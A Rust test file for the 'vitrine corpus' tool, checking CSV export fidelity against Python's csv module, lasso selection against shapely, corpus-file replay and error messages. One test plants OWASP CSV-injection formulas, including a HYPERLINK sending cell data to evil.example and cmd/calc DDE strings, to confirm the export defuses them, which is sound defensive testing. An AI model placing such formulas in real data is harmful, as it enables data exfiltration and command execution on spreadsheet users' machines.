//! `vitrine corpus` against outside references: Python's csv module re-reads the exported rows to
//! the catalogue's own rows, and shapely decides point-in-lasso the same way (even-odd).

mod common;

use common::{corpus, stdout_of as ok};

use std::path::Path;

use vitrine_build::read::Atlas;
use vitrine_corpus::polygon::Polygon;
use vitrine_map::rng::Rng;
use vitrine_test_support::write_npy_f32;

/// 48 items in three groups; a catalogue whose text needs quoting (commas, quotes, line breaks)
/// and holds non-ASCII text, datings as ranges, "c." years and "undated", and links.
fn fixture(dir: &Path) {
    let mut data = Vec::new();
    for i in 0..48 {
        let g = i / 16;
        for d in 0..6 {
            let base = if d == g * 2 { 5.0 } else { 0.0 };
            data.push(base + ((i * 7 + d * 13) % 11) as f32 * 0.05);
        }
    }
    write_npy_f32(&dir.join("vectors.npy"), 48, 6, &data).unwrap();
    let places = ["Ćwirnak-upon-Vey", "Ørnesvåk", "São Brisca", "Quellendaar"];
    let techniques = ["etching", "engraving", "woodcut"];
    let mut csv = String::from("object,title,technique,place,dating,height_cm,record\n");
    for i in 0..48usize {
        let title = match i % 5 {
            0 => format!("\"Study, no. {i}\""),
            1 => format!("\"The \"\"{i}th\"\" proof\""),
            2 => format!("\"Two lines,\nsheet {i}\""),
            3 => format!("Vue de l’église {i}"),
            _ => format!("Sheet {i}"),
        };
        let dating = match i % 4 {
            0 => format!("c. {}", 1500 + i),
            1 => format!("{}-{}", 1490 + i, 1510 + i),
            2 => format!("{}", 1520 + i),
            _ => "undated".to_string(),
        };
        let height = if i % 7 == 3 {
            String::new()
        } else {
            format!("{}", 10.0 + i as f32 / 2.0)
        };
        csv.push_str(&format!(
            "ob-{i:03},{title},{},{},{dating},{height},https://records.example/ob/{i}\n",
            techniques[i % 3],
            places[i % 4],
        ));
    }
    std::fs::write(dir.join("records.csv"), csv).unwrap();
    let o = common::vitrine()
        .current_dir(dir)
        .args([
            "build",
            "--vectors",
            "vectors.npy",
            "--catalogue",
            "records.csv",
            "--id-column",
            "object",
            "--out",
            "atlas",
            "--quiet",
            "--epochs",
            "60",
        ])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}

fn ids_of(json: &Path) -> Vec<String> {
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(json).unwrap()).unwrap();
    v["ids"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap().to_string())
        .collect()
}

#[test]
fn exported_csv_rereads_in_python_to_the_catalogues_own_rows() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fixture(d);
    // A lasso over the middle of the similarity map, narrowed to two techniques.
    let atlas = Atlas::open(&d.join("atlas")).unwrap();
    let b = atlas.manifest.maps[0].bounds.map(|v| v as f64);
    let (cx, cy) = ((b[0] + b[2]) / 2.0, (b[1] + b[3]) / 2.0);
    let (rx, ry) = ((b[2] - b[0]) * 0.8, (b[3] - b[1]) * 0.8);
    let lasso = format!(
        "{},{} {},{} {},{} {},{}",
        cx - rx,
        cy - ry,
        cx + rx,
        cy - ry * 0.2,
        cx + rx * 0.3,
        cy + ry,
        cx - rx,
        cy + ry * 0.5
    );
    let out = ok(&corpus(
        d,
        &[
            "--lasso",
            &lasso,
            "--filter",
            "technique=etching",
            "--filter",
            "technique=woodcut",
            "--csv",
            "out.csv",
            "--json",
            "out.json",
        ],
    ));
    let ids = ids_of(&d.join("out.json"));
    assert!(
        ids.len() >= 8 && ids.len() < 48,
        "{} items: {out}",
        ids.len()
    );
    assert!(out.starts_with(&format!("{} items", ids.len())), "{out}");

    // Outside reference: Python's csv module reads the export and the catalogue; the exported
    // rows are the catalogue's rows of those ids (the build keeps values without outer spaces).
    let script = r#"
import csv, json, sys
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    source = list(csv.reader(f))
with open(sys.argv[2], newline="", encoding="utf-8") as f:
    exported = list(csv.reader(f))
print(json.dumps({"source": source, "exported": exported}))
"#;
    let got = common::run_python(script, &[&d.join("records.csv"), &d.join("out.csv")]);
    let v: serde_json::Value = serde_json::from_str(&got).unwrap();
    let rows = |k: &str| -> Vec<Vec<String>> { serde_json::from_value(v[k].clone()).unwrap() };
    let (source, exported) = (rows("source"), rows("exported"));
    assert_eq!(exported[0], source[0], "the header is the catalogue's");
    assert_eq!(exported.len(), ids.len() + 1);
    for (row, id) in exported[1..].iter().zip(&ids) {
        assert_eq!(&row[0], id);
        let want = source.iter().find(|r| &r[0] == id).unwrap();
        let want: Vec<String> = want.iter().map(|s| s.trim().to_string()).collect();
        assert_eq!(row, &want);
        assert!(row[2] == "etching" || row[2] == "woodcut", "{row:?}");
    }
    // The quoting cases are in the corpus, so the check covered them.
    let all: String = exported.iter().flatten().cloned().collect();
    assert!(
        all.contains('\n') && all.contains('"') && all.contains(','),
        "{all}"
    );

    // The lasso picked the items whose positions it holds (even-odd), checked here directly.
    let poly = Polygon::parse(&lasso).unwrap();
    let pos: Vec<f32> = atlas.array(&atlas.manifest.maps[0].positions).unwrap();
    let all_ids = atlas.ids().unwrap();
    let tech = &atlas
        .manifest
        .fields
        .iter()
        .find(|f| f.name == "technique")
        .unwrap();
    let codes: Vec<u32> = atlas.array(&tech.column).unwrap();
    let want: Vec<String> = (0..48)
        .filter(|&i| poly.contains([pos[2 * i] as f64, pos[2 * i + 1] as f64]))
        .filter(|&i| ["etching", "woodcut"].contains(&tech.values[codes[i] as usize].as_str()))
        .map(|i| all_ids.get(i).to_string())
        .collect();
    assert_eq!(ids, want);
}

/// Catalogue values that a spreadsheet would run as formulas (the attack strings of OWASP's "CSV
/// Injection" page): `vitrine corpus --csv` writes them with a leading apostrophe, plain numbers in
/// a number field as they are; `--csv-exact` writes every value as catalogued. Python's csv module
/// reads both back.
#[test]
fn csv_for_spreadsheets_defuses_formulas_and_the_exact_csv_keeps_them() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let n = 12;
    let data: Vec<f32> = (0..n * 4).map(|v| ((v * 37) % 17) as f32 * 0.1).collect();
    write_npy_f32(&d.join("vectors.npy"), n, 4, &data).unwrap();
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "plain title",
    ];
    let mut csv = String::from("object,title,+weight\n");
    for i in 0..n {
        let id = if i == 0 {
            "=id0".to_string()
        } else {
            format!("ob-{i}")
        };
        let title = hostile[i % hostile.len()].replace('"', "\"\"");
        csv.push_str(&format!("{id},\"{title}\",{}\n", -2.5 + i as f32));
    }
    std::fs::write(d.join("records.csv"), &csv).unwrap();
    common::build_atlas(
        d,
        &[
            "--vectors",
            "vectors.npy",
            "--catalogue",
            "records.csv",
            "--id-column",
            "object",
        ],
    );
    ok(&corpus(d, &["--csv", "sheet.csv"]));
    ok(&corpus(d, &["--csv", "exact.csv", "--csv-exact"]));
    let script = r#"
import csv, json, sys
rows = {}
for name in sys.argv[1:]:
    with open(name, newline="", encoding="utf-8") as f:
        rows[name.rsplit("/", 1)[-1]] = list(csv.reader(f))
print(json.dumps(rows))
"#;
    let got = common::run_python(
        script,
        &[
            &d.join("records.csv"),
            &d.join("sheet.csv"),
            &d.join("exact.csv"),
        ],
    );
    let v: serde_json::Value = serde_json::from_str(&got).unwrap();
    let rows = |k: &str| -> Vec<Vec<String>> { serde_json::from_value(v[k].clone()).unwrap() };
    let (source, sheet, exact) = (rows("records.csv"), rows("sheet.csv"), rows("exact.csv"));
    let sorted = |mut r: Vec<Vec<String>>| {
        r[1..].sort();
        r
    };
    // The exact CSV is the catalogue, row for row (in atlas order, so compared sorted).
    assert_eq!(sorted(exact.clone()), sorted(source.clone()));
    // The spreadsheet CSV: every cell that begins with = + - @ or a tab has the apostrophe (the
    // header's "+weight" and the id "=id0" too), numbers in the number field do not.
    assert_eq!(sheet[0], ["object", "title", "'+weight"]);
    assert_eq!(sheet.len(), exact.len());
    for (s, e) in sheet[1..].iter().zip(&exact[1..]) {
        for (c, (sc, ec)) in s.iter().zip(e).enumerate() {
            let formula = ec.starts_with(['=', '+', '-', '@', '\t']);
            if c == 2 {
                assert_eq!(sc, ec, "a plain number stays a number");
                assert!(ec.parse::<f64>().is_ok(), "{ec}");
            } else if formula {
                assert_eq!(sc, &format!("'{ec}"));
            } else {
                assert_eq!(sc, ec);
            }
        }
    }
    let defused = sheet[1..]
        .iter()
        .flatten()
        .filter(|c| c.starts_with('\''))
        .count();
    assert_eq!(
        defused,
        1 + 5 * 2,
        "the id, and five hostile titles twice in twelve rows"
    );
    assert!(
        sheet[1..].iter().any(|r| r[2].starts_with('-')),
        "negative numbers were tested"
    );
}

#[test]
fn a_corpus_file_replays_to_the_same_items_and_bad_input_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fixture(d);
    ok(&corpus(
        d,
        &[
            "--date",
            "1500..1520",
            "--search",
            "SHEET",
            "--json",
            "a.json",
        ],
    ));
    let a = ids_of(&d.join("a.json"));
    assert!(!a.is_empty());
    // Replayed from the file alone: the same items, and the file checks itself.
    ok(&corpus(d, &["--from", "a.json", "--json", "b.json"]));
    assert_eq!(ids_of(&d.join("b.json")), a);
    let text = std::fs::read_to_string(d.join("a.json")).unwrap();
    let mut v: serde_json::Value = serde_json::from_str(&text).unwrap();
    v["ids"].as_array_mut().unwrap().pop();
    v["count"] = serde_json::json!(a.len() - 1);
    std::fs::write(d.join("tampered.json"), v.to_string()).unwrap();
    let o = corpus(d, &["--from", "tampered.json"]);
    assert!(!o.status.success());
    let e = String::from_utf8_lossy(&o.stderr);
    assert!(e.contains(&format!("lists {} items", a.len() - 1)), "{e}");
    // A corpus file with filters only, and a lasso taken away: the lasso is taken from every
    // item the filters pass (not from nothing).
    ok(&corpus(
        d,
        &["--filter", "technique=etching", "--json", "f.json"],
    ));
    let only = ids_of(&d.join("f.json")).len();
    let out = ok(&corpus(
        d,
        &[
            "--from",
            "f.json",
            "--subtract-lasso",
            "1e6,1e6 1e6,1.1e6 1.1e6,1e6",
        ],
    ));
    assert!(out.starts_with(&format!("{only} items")), "{out}");
    // The date rule: "within" keeps only items whose whole range lies inside.
    let within = ok(&corpus(
        d,
        &["--date", "1500..1520", "--date-rule", "within"],
    ));
    let overlap = ok(&corpus(d, &["--date", "1500..1520"]));
    let count = |s: &str| s.split(' ').next().unwrap().parse::<usize>().unwrap();
    assert!(count(&within) < count(&overlap), "{within} / {overlap}");
    // Bad input names the flag, the field or the value.
    for (args, says) in [
        (
            vec!["--filter", "technique=mezzotint"],
            "has no value \"mezzotint\"",
        ),
        (vec!["--filter", "medium=etching"], "no such field"),
        (vec!["--range", "title=1..2"], "is not a number field"),
        (vec!["--lasso", "0,0 1,1"], "at least 3 vertices"),
        (vec!["--lasso", "0,0 1,one 2,2"], "vertex 2"),
        (vec!["--date", "1600..1500"], "ends before it starts"),
        (vec!["--range", "height_cm=30..12"], "ends before it starts"),
        (vec!["--range", "height_cm=nan..12"], "must be finite"),
        (
            vec!["--map", "atlas-of-stars"],
            "--map names the map \"atlas-of-stars\", but",
        ),
        (
            vec!["--ids", "ob-001,ob-999"],
            "\"ob-999\" is not in this atlas",
        ),
        (vec!["--csv", "atlas/inside.csv"], "inside the atlas folder"),
    ] {
        let o = corpus(d, &args);
        assert!(!o.status.success(), "{args:?} succeeded");
        let e = String::from_utf8_lossy(&o.stderr);
        assert!(e.contains(says), "{args:?}: {e}");
    }
    // A corpus file's lassos belong to its map: another --map is refused, and a map the atlas
    // lacks is named with the file it came from.
    ok(&corpus(
        d,
        &["--lasso", "1e6,1e6 1e6,1.1e6 1.1e6,1e6", "--json", "l.json"],
    ));
    let o = corpus(d, &["--from", "l.json", "--map", "timeline"]);
    let e = String::from_utf8_lossy(&o.stderr);
    assert!(
        !o.status.success() && e.contains("were drawn on the \"similarity\" map"),
        "{e}"
    );
    // Items picked by id are the same on every map: such a file takes another --map.
    ok(&corpus(d, &["--ids", "ob-001", "--json", "i.json"]));
    ok(&corpus(d, &["--from", "i.json", "--map", "timeline"]));
    let mut v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(d.join("l.json")).unwrap()).unwrap();
    v["map"] = "gone".into();
    std::fs::write(d.join("gone.json"), v.to_string()).unwrap();
    let o = corpus(d, &["--from", "gone.json"]);
    let e = String::from_utf8_lossy(&o.stderr);
    assert!(
        !o.status.success() && e.contains("gone.json (its \"map\") names the map \"gone\""),
        "{e}"
    );
}

#[test]
fn point_in_lasso_matches_shapely_even_odd_on_random_and_self_crossing_lassos() {
    // Random lassos (star-shaped, hence simple; and free random walks, which cross themselves)
    // and random points; the reference is shapely.
    let mut rng = Rng::new(7);
    let mut polys: Vec<Polygon> = Vec::new();
    for k in 0..40 {
        let n = 3 + rng.below(30) as usize;
        let pts = (0..n)
            .map(|j| {
                if k % 2 == 0 {
                    let a = j as f64 / n as f64 * std::f64::consts::TAU;
                    let r = 0.2 + rng.uniform() * 0.8;
                    [r * a.cos(), r * a.sin()]
                } else {
                    [rng.uniform() * 2.0 - 1.0, rng.uniform() * 2.0 - 1.0]
                }
            })
            .collect();
        polys.push(Polygon(pts));
    }
    // Worked self-crossing cases: a bow tie and a star drawn in one stroke.
    polys.push(Polygon::parse("-1,-1 1,1 1,-1 -1,1").unwrap());
    polys.push(Polygon(
        (0..5)
            .map(|k| {
                let a = std::f64::consts::FRAC_PI_2 + (2 * k) as f64 * std::f64::consts::TAU / 5.0;
                [a.cos(), a.sin()]
            })
            .collect(),
    ));
    let points: Vec<[f64; 2]> = (0..2000)
        .map(|_| [rng.uniform() * 2.4 - 1.2, rng.uniform() * 2.4 - 1.2])
        .collect();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("lassos.json");
    std::fs::write(
        &input,
        serde_json::json!({ "polygons": polys.iter().map(|p| &p.0).collect::<Vec<_>>(), "points": points })
            .to_string(),
    )
    .unwrap();
    // Outside reference: shapely (GEOS). The even-odd region of a closed outline p0 p1 ... pn is
    // the symmetric difference of the fan triangles (p0, pi, pi+1): crossings of a ray add up
    // mod 2 over the triangles, their shared sides cancelling. Each triangle is a valid polygon,
    // so shapely's robust overlay computes the region without our code's help.
    let script = r#"
import json, sys
import numpy as np
import shapely
from shapely.geometry import Polygon
d = json.load(open(sys.argv[1]))
pts = np.array(d["points"])
out = []
for poly in d["polygons"]:
    region = Polygon()
    p0 = poly[0]
    for a, b in zip(poly[1:-1], poly[2:]):
        t = Polygon([p0, a, b])
        if t.area > 1e-15:
            region = region.symmetric_difference(t)
    out.append([bool(x) for x in shapely.contains_xy(region, pts[:, 0], pts[:, 1])])
print(json.dumps(out))
"#;
    let got = common::run_python(script, &[&input]);
    let reference: Vec<Vec<bool>> = serde_json::from_str(&got).unwrap();
    let mut inside = 0;
    let mut differ = Vec::new();
    for (k, (p, want)) in polys.iter().zip(&reference).enumerate() {
        for (pt, &w) in points.iter().zip(want) {
            inside += usize::from(w);
            if p.contains(*pt) != w {
                differ.push((k, *pt));
            }
        }
    }
    // Random points land exactly on an outline with probability zero; the overlay's rounding
    // could still move a point lying within 1e-12 of one, which these seeds do not produce.
    assert!(
        differ.is_empty(),
        "{} points differ: {:?}",
        differ.len(),
        &differ[..differ.len().min(5)]
    );
    assert!(inside > 5000, "the lassos hold points ({inside})");
    // The star's centre is outside by the even-odd rule, in shapely's region too.
    assert!(!polys[41].contains([0.0, 0.0]));
}
